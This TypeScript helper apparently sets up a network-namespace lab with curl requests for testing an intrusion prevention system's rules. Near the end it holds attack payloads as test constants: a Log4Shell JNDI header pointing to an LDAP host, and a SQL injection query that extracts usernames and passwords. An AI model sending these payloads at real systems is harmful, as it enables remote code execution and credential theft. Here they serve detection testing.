/**
 * The lab of the IPS system tests: a protected host "a" (10.78.<n>.1) and a client "b"
 * (10.78.<n>.2) in namespaces made for the test, joined by a veth pair; a real web server
 * (python3 -m http.server) in "a"; requests from "b" with curl. Queue numbers 120-139 are the IPS
 * tests' own (HELPER rules): each test file takes its own.
 */
import { spawnSync } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { kernelAddonStatus } from '@bulwark/kernel';
import { namespaceProbeFailure } from '../support/namespace-feature.js';
import { createNamespaces, type Namespaces } from '../support/netns-lab.js';

export const repoRoot = fileURLToPath(new URL('../..', import.meta.url));

const TOOLS: Readonly<Record<string, string>> = {
  ip: 'iproute2',
  nft: 'nftables',
  curl: 'curl',
  python3: 'python3',
};

/** Why these tests cannot run here (no root, a tool, the addon or NFQUEUE missing), or undefined. */
export function ipsSkipReason(): string | undefined {
  if (process.platform !== 'linux') return 'needs Linux: network namespaces and NFQUEUE';
  if (process.getuid?.() !== 0) return 'needs root: network namespaces and NFQUEUE';
  for (const [tool, pkg] of Object.entries(TOOLS)) {
    if (spawnSync('sh', ['-c', `command -v ${tool}`]).status !== 0) {
      if (process.env.CI) throw new Error(`${tool} must be installed in CI`);
      return `needs ${tool} (apt-get install ${pkg})`;
    }
  }
  const addon = kernelAddonStatus();
  if (!addon.available) {
    if (process.env.CI) throw new Error(`the kernel addon must be built in CI: ${addon.reason}`);
    return `needs the kernel addon for NFQUEUE: ${addon.reason}`;
  }
  const failure = namespaceProbeFailure('nfqueue');
  if (failure === undefined) return undefined;
  if (process.env.CI) throw new Error(`NFQUEUE must work in CI: ${failure}`);
  return `NFQUEUE does not work in a network namespace here: ${failure}`;
}

export interface IpsLab extends Namespaces {
  /** The protected host's namespace and address. */
  readonly a: string;
  readonly aAddress: string;
  /** The client's namespace and address. */
  readonly b: string;
  readonly bAddress: string;
}

let counter = 0;

/** Two namespaces joined by a veth pair; `subnet` (1-254) keeps labs of different files apart. */
export function createIpsLab(subnet: number): IpsLab {
  const id = `${process.pid % 100000}x${counter++}`;
  const a = `bwips-${id}-a`;
  const b = `bwips-${id}-b`;
  const aAddress = `10.78.${subnet}.1`;
  const bAddress = `10.78.${subnet}.2`;
  const namespaces = createNamespaces(
    [a, b],
    [
      [
        { ns: a, dev: 'veth-ab', address: `${aAddress}/24` },
        { ns: b, dev: 'veth-ba', address: `${bAddress}/24` },
      ],
    ],
    30_000,
  );
  return { a, aAddress, b, bAddress, ...namespaces };
}

/** What a curl request came to: the HTTP status, or how the connection ended without one. */
export interface RequestOutcome {
  /** curl's exit code: 0 = an HTTP answer came; 56 / 52 = reset or closed without an answer. */
  readonly exit: number;
  /** The HTTP status, 0 when none came. */
  readonly status: number;
  readonly seconds: number;
}

/** One HTTP request with curl from namespace `ns` (a 10 s cap: a hung request is a failure). */
export function request(
  lab: Namespaces,
  ns: string,
  url: string,
  headers: readonly string[] = [],
  output = '/dev/null',
): RequestOutcome {
  const args = ['-s', '-o', output, '-w', '%{http_code} %{time_total}', '--max-time', '10'];
  for (const h of headers) args.push('-H', h);
  const r = lab.exec(ns, 'curl', [...args, url], 20_000);
  const [status = '0', seconds = '0'] = r.stdout.trim().split(' ');
  return { exit: r.code, status: Number(status), seconds: Number(seconds) };
}

/** A request whose connection was reset (or closed) before any HTTP answer. */
export const wasReset = (o: RequestOutcome) => o.status === 0 && (o.exit === 56 || o.exit === 52);
/** A request that got an HTTP answer (python's http.server says 404 for paths it has no file for). */
export const wasAnswered = (o: RequestOutcome) => o.exit === 0 && o.status >= 200 && o.status < 600;

/** A long URI: the rule the product's false-positive example is about (maximum URI length). */
export const LONG_URI_PATH = `/search?q=${'a'.repeat(5_000)}`;
/** A Log4Shell lookup in a header, the JNDI rule's example. */
// biome-ignore lint/suspicious/noTemplateCurlyInString: the attack text itself, not a template
export const LOG4SHELL_HEADER = 'X-Api-Version: ${jndi:ldap://10.0.0.9:1389/a}';
/** A SQL injection in the query string. */
export const SQLI_PATH = "/items?id=1'%20UNION%20SELECT%20username,password%20FROM%20users--";
